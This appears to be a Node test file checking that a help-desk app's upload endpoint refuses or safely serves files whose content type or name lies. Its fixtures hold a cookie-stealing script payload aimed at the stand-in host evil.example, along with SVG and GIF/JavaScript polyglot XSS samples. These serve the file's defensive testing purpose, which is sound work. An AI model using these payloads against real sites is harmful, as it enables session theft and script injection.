import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { DeskClient, UploadedFile } from '@deskkit/client';
import { FILE_CSP } from '../http/files.js';
import { record, signedInClient, startChat, waitFor } from '../testing/clients.js';
import { png } from '../testing/fixtures.js';
import { startTestDesk, type TestDesk } from '../testing/harness.js';

// routers/files.test.ts covers executables, HTML and XML under image names, SVG downloads and
// signatures; here: bodies that are two things at once, and true files under lying headers.

const script = '<script>fetch("https://evil.example/?c="+document.cookie)</script>';

/** Bodies whose headers and names lie, and what the desk must make of them: stored as `type`, or refused (null). */
const lies: Array<{ what: string; body: Buffer; name: string; contentType: string; type: string | null; inline?: boolean }> = [
  { what: 'HTML after a byte-order mark', body: Buffer.from(`\uFEFF<html><body>${script}</body></html>`), name: 'photo.png', contentType: 'image/png', type: null },
  { what: 'HTML in UTF-16', body: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<html>${script}</html>`, 'utf16le')]), name: 'photo.jpg', contentType: 'image/jpeg', type: null },
  { what: 'a bare script tag', body: Buffer.from(`${script}\n`), name: 'avatar.jpg', contentType: 'image/png', type: null },
  { what: 'SVG with script, named .jpg', body: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`), name: 'logo.jpg', contentType: 'image/png', type: 'image/svg+xml', inline: false },
  { what: 'a PE executable named .png', body: Buffer.concat([Buffer.from('MZ', 'latin1'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0', 'latin1'), Buffer.alloc(256)]), name: 'cat.png', contentType: 'image/png', type: null },
  { what: 'an ELF binary named .jpg', body: Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]), name: 'dog.jpg', contentType: 'image/jpeg', type: null },
  // Polyglots: a real image with markup after it is an image, and is only ever served as one.
  { what: 'a PNG with HTML appended', body: Buffer.concat([png(2, 2), Buffer.from(`<html>${script}</html>`)]), name: 'page.html', contentType: 'text/html', type: 'image/png', inline: true },
  { what: 'a GIF/JavaScript polyglot', body: Buffer.from(`GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain)//;`, 'latin1'), name: 'x.js', contentType: 'application/javascript', type: 'image/gif', inline: true },
  { what: 'text with a script further down', body: Buffer.from(`Hello,\nplease see below.\n${script}\n`), name: 'notes.html', contentType: 'text/html', type: 'text/plain', inline: false },
  { what: 'a PDF with HTML inside', body: Buffer.from(`%PDF-1.4\n<html>${script}</html>\n%%EOF\n`, 'latin1'), name: 'invoice.html', contentType: 'text/html', type: 'application/pdf', inline: false },
];

describe('security: uploads with lying content types', () => {
  let t: TestDesk;
  let sam: { client: DeskClient; token: string };
  let chatId: string;
  const files = () => t.desk.services.models.Message.db.collection('attachments.files').countDocuments();

  const post = async (body: Buffer, name: string, contentType: string) => {
    const res = await fetch(`${t.url}/files?${new URLSearchParams({ conversationId: chatId, name })}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${sam.token}`, 'Content-Type': contentType },
      body: new Uint8Array(body),
    });
    return { status: res.status, json: (await res.json()) as UploadedFile & { code?: string } };
  };

  before(async () => {
    t = await startTestDesk();
    sam = await signedInClient(t.url, { email: 'sam@demo.deskkit.dev', password: t.seed.password });
    const live = record((h) => sam.client.conversations.onEvent.subscribe(undefined, h));
    await waitFor(() => live.started, 5_000, 'sam live');
    await sam.client.presence.setStatus.mutate({ status: 'available' });
    const support = t.seed.departments.find((d) => d.name === 'Support')!.id;
    chatId = (await startChat(t.url, { departmentId: support })).id;
    await sam.client.conversations.accept.mutate({ conversationId: chatId });
    live.unsubscribe();
  });
  after(() => t?.close());

  for (const lie of lies) {
    test(`${lie.what}, sent as ${lie.contentType} "${lie.name}" → ${lie.type ?? 'refused'}`, async () => {
      const before = await files();
      const res = await post(lie.body, lie.name, lie.contentType);
      if (!lie.type) {
        assert.deepEqual([res.status, res.json.code], [415, 'UNSUPPORTED_MEDIA_TYPE']);
        assert.equal(await files(), before, 'nothing stored');
        return;
      }
      assert.equal(res.status, 201, JSON.stringify(res.json));
      assert.equal(res.json.contentType, lie.type, 'the type comes from the content, not the header or the name');
      const { links } = await sam.client.files.links.query({ conversationId: chatId, fileIds: [res.json.fileId] });
      const served = await fetch(new URL(links[res.json.fileId]!.url, t.url));
      assert.equal(served.headers.get('content-type')?.split(';')[0], lie.type);
      assert.equal(served.headers.get('x-content-type-options'), 'nosniff');
      assert.equal(served.headers.get('content-security-policy'), FILE_CSP, 'no script runs even if opened directly');
      assert.match(served.headers.get('content-disposition')!, lie.inline ? /^inline; / : /^attachment; /);
      assert.deepEqual(Buffer.from(await served.arrayBuffer()), lie.body, 'stored as sent');
    });
  }

  test('a real PNG sent as text/html is stored and served as image/png', async () => {
    const res = await post(png(4, 3), 'index.html', 'text/html; charset=utf-8');
    assert.equal(res.status, 201);
    assert.deepEqual([res.json.contentType, res.json.category, res.json.width, res.json.height], ['image/png', 'image', 4, 3]);
    const { links } = await sam.client.files.links.query({ conversationId: chatId, fileIds: [res.json.fileId] });
    const served = await fetch(new URL(links[res.json.fileId]!.url, t.url));
    assert.equal(served.headers.get('content-type'), 'image/png');
  });
});
